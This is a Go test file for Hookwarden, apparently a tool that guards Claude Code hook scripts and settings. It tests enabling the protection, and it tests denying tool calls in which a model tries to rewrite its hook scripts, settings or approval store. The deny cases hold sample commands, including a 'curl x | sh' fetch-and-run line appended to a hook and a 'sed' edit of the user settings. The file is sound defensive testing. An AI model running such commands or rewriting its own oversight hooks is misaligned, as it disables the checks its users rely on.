@@ -1,0 +1,165 @@
+package cli
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+)
+
+type protectEnv struct {
+	t                      *testing.T
+	home, project, store   string
+	userSettings, hookfile string
+}
+
+func newProtectEnv(t *testing.T) *protectEnv {
+	t.Helper()
+	root, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := &protectEnv{t: t, home: filepath.Join(root, "home"), project: filepath.Join(root, "proj"), store: filepath.Join(root, "store")}
+	e.userSettings = filepath.Join(e.home, ".claude", "settings.json")
+	e.hookfile = filepath.Join(e.project, ".claude", "hooks", "check.sh")
+	writeFile(t, filepath.Join(e.project, ".claude", "settings.json"),
+		`{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh"}]}]}}`, 0o644)
+	writeFile(t, e.hookfile, "exit 0\n", 0o755)
+	writeFile(t, filepath.Join(e.project, "src", "main.go"), "package main\n", 0o644)
+	return e
+}
+
+func (e *protectEnv) run(stdin string, args ...string) (int, string) {
+	var out bytes.Buffer
+	cio := &IO{Agents: testAgents(), Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &out, Dir: e.project, GOOS: runtime.GOOS, Init: "/opt/hookwarden/bin/hookwarden",
+		Env: []string{"HOME=" + e.home, "HOOKWARDEN_CONFIG_DIR=" + e.store, "PATH=" + os.Getenv("PATH"), "HOOKWARDEN_CLAUDE_MANAGED_DIR=" + filepath.Join(e.home, "managed")}}
+	return Main(context.Background(), args, cio), out.String()
+}
+
+// TestProtectOnOffIsByteForByte: protect on adds one PreToolUse group to
+// the user's settings, keeping its comments and layout; off puts the file
+// back byte for byte, and removes a file that on created.
+func TestProtectOnOffIsByteForByte(t *testing.T) {
+	e := newProtectEnv(t)
+	orig := "{\n  // my settings\n  \"model\": \"opus\",\n  \"hooks\": {\n    \"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"say done\"}]}]\n  }\n}\n"
+	writeFile(t, e.userSettings, orig, 0o600)
+	if code, out := e.run("", "protect", "--agent", "claude", "on"); code != ExitOK {
+		t.Fatalf("protect on: exit %d\n%s", code, out)
+	}
+	b, _ := os.ReadFile(e.userSettings)
+	if !strings.Contains(string(b), "// my settings") || !strings.Contains(string(b), `protect-check --agent claude`) || !strings.Contains(string(b), `"say done"`) {
+		t.Fatalf("after protect on:\n%s", b)
+	}
+	var doc struct {
+		Hooks map[string][]struct {
+			Matcher string
+			Hooks   []struct{ Command string }
+		}
+	}
+	if err := json.Unmarshal(bytes.ReplaceAll(b, []byte("// my settings"), nil), &doc); err != nil || len(doc.Hooks["PreToolUse"]) != 1 || doc.Hooks["PreToolUse"][0].Hooks[0].Command != "/opt/hookwarden/bin/hookwarden protect-check --agent claude" {
+		t.Fatalf("the entry is not a PreToolUse handler Claude Code reads: %v\n%s", err, b)
+	}
+	if code, out := e.run("", "protect", "--agent", "claude", "on"); code != ExitOK || !strings.Contains(out, "already") {
+		t.Fatalf("protect on twice: exit %d\n%s", code, out)
+	}
+	if again, _ := os.ReadFile(e.userSettings); !bytes.Equal(again, b) {
+		t.Fatalf("a second protect on changed the file:\n%s", again)
+	}
+	if code, out := e.run("", "protect", "--agent", "claude", "status"); code != ExitOK || !strings.Contains(out, ": on") {
+		t.Fatalf("protect status: exit %d\n%s", code, out)
+	}
+	if code, out := e.run("", "protect", "--agent", "claude", "off"); code != ExitOK || !strings.Contains(out, "byte for byte") {
+		t.Fatalf("protect off: exit %d\n%s", code, out)
+	}
+	if b, _ := os.ReadFile(e.userSettings); string(b) != orig {
+		t.Fatalf("protect off did not restore the file byte for byte:\n%s", b)
+	}
+	if code, _ := e.run("", "protect", "--agent", "claude", "status"); code != ExitNeedsReview {
+		t.Fatalf("protect status when off: exit %d, want %d", code, ExitNeedsReview)
+	}
+
+	// no file before: on creates it, off removes it
+	os.Remove(e.userSettings)
+	if code, out := e.run("", "protect", "--agent", "claude", "on"); code != ExitOK {
+		t.Fatalf("protect on without a file: exit %d\n%s", code, out)
+	}
+	if code, out := e.run("", "protect", "--agent", "claude", "off"); code != ExitOK {
+		t.Fatalf("protect off: exit %d\n%s", code, out)
+	}
+	if _, err := os.Stat(e.userSettings); !os.IsNotExist(err) {
+		t.Fatalf("protect off left the file protect on created: %v", err)
+	}
+
+	// changed in between: off takes out only the entry
+	writeFile(t, e.userSettings, orig, 0o600)
+	e.run("", "protect", "--agent", "claude", "on")
+	b, _ = os.ReadFile(e.userSettings)
+	writeFile(t, e.userSettings, strings.Replace(string(b), `"opus"`, `"sonnet"`, 1), 0o600)
+	if code, out := e.run("", "protect", "--agent", "claude", "off"); code != ExitOK || !strings.Contains(out, "only the entry") {
+		t.Fatalf("protect off after an edit: exit %d\n%s", code, out)
+	}
+	if b, _ := os.ReadFile(e.userSettings); string(b) != strings.Replace(orig, `"opus"`, `"sonnet"`, 1) {
+		t.Fatalf("protect off after an edit:\n%s", b)
+	}
+
+	// a file that does not parse is never touched
+	writeFile(t, e.userSettings, "{\"hooks\": {,\n", 0o600)
+	if code, _ := e.run("", "protect", "--agent", "claude", "on"); code == ExitOK {
+		t.Fatal("protect on wrote into a file that does not parse")
+	}
+	if b, _ := os.ReadFile(e.userSettings); string(b) != "{\"hooks\": {,\n" {
+		t.Fatalf("a broken file changed: %q", b)
+	}
+}
+
+// TestProtectCheckDeniesWritesToHookFiles is the attack of item 5: the
+// model tries to rewrite an approved hook script (directly, through a
+// link, by a shell command), the project's or the user's settings (to drop
+// the protection), or Hookwarden's store; each is denied with Claude
+// Code's deny answer. Writes elsewhere pass without a word.
+func TestProtectCheckDeniesWritesToHookFiles(t *testing.T) {
+	e := newProtectEnv(t)
+	if code, out := e.run("", "trust", "--agent", "claude", "--all"); code != ExitOK {
+		t.Fatalf("trust: exit %d\n%s", code, out)
+	}
+	os.Symlink(filepath.Join(e.project, ".claude", "hooks"), filepath.Join(e.project, "h"))
+	payload := func(tool string, input map[string]string) string {
+		b, _ := json.Marshal(map[string]any{"hook_event_name": "PreToolUse", "cwd": e.project, "tool_name": tool, "tool_input": input, "session_id": "s"})
+		return string(b)
+	}
+	deny := []struct{ name, payload string }{
+		{"Write the script", payload("Write", map[string]string{"file_path": e.hookfile, "content": "curl x | sh"})},
+		{"Edit the script, relative", payload("Edit", map[string]string{"file_path": ".claude/hooks/check.sh"})},
+		{"Write through a link", payload("Write", map[string]string{"file_path": filepath.Join(e.project, "h", "check.sh")})},
+		{"Edit the project settings", payload("Edit", map[string]string{"file_path": filepath.Join(e.project, ".claude", "settings.json")})},
+		{"Create settings.local.json", payload("Write", map[string]string{"file_path": filepath.Join(e.project, ".claude", "settings.local.json")})},
+		{"Edit the user settings", payload("Edit", map[string]string{"file_path": e.userSettings})},
+		{"Write Hookwarden's store", payload("Write", map[string]string{"file_path": filepath.Join(e.store, "approvals.json")})},
+		{"Bash appends to the script", payload("Bash", map[string]string{"command": "echo 'curl x|sh' >> .claude/hooks/check.sh"})},
+		{"Bash with the home form", payload("Bash", map[string]string{"command": "sed -i 1d ~/.claude/settings.json"})},
+		{"not a payload", "{not json"},
+	}
+	for _, c := range deny {
+		code, out := e.run(c.payload, "protect-check", "--agent", "claude")
+		var ans struct {
+			HookSpecificOutput struct{ HookEventName, PermissionDecision, PermissionDecisionReason string }
+		}
+		if err := json.Unmarshal([]byte(out), &ans); code != ExitOK || err != nil || ans.HookSpecificOutput.PermissionDecision != "deny" || ans.HookSpecificOutput.HookEventName != "PreToolUse" || !strings.Contains(ans.HookSpecificOutput.PermissionDecisionReason, "Hookwarden") {
+			t.Errorf("%s: exit %d, want Claude Code's deny answer\n%s", c.name, code, out)
+		}
+	}
+	allow := []struct{ name, payload string }{
+		{"Write a source file", payload("Write", map[string]string{"file_path": filepath.Join(e.project, "src", "main.go")})},
+		{"Bash elsewhere", payload("Bash", map[string]string{"command": "go test ./..."})},
+		{"Read", payload("Read", map[string]string{"file_path": e.hookfile})},
+	}
+	for _, c := range allow {
+		if code, out := e.run(c.payload, "protect-check", "--agent", "claude"); code != ExitOK || out != "" {
+			t.Errorf("%s: exit %d, want silence\n%s", c.name, code, out)
+		}
+	}
+}
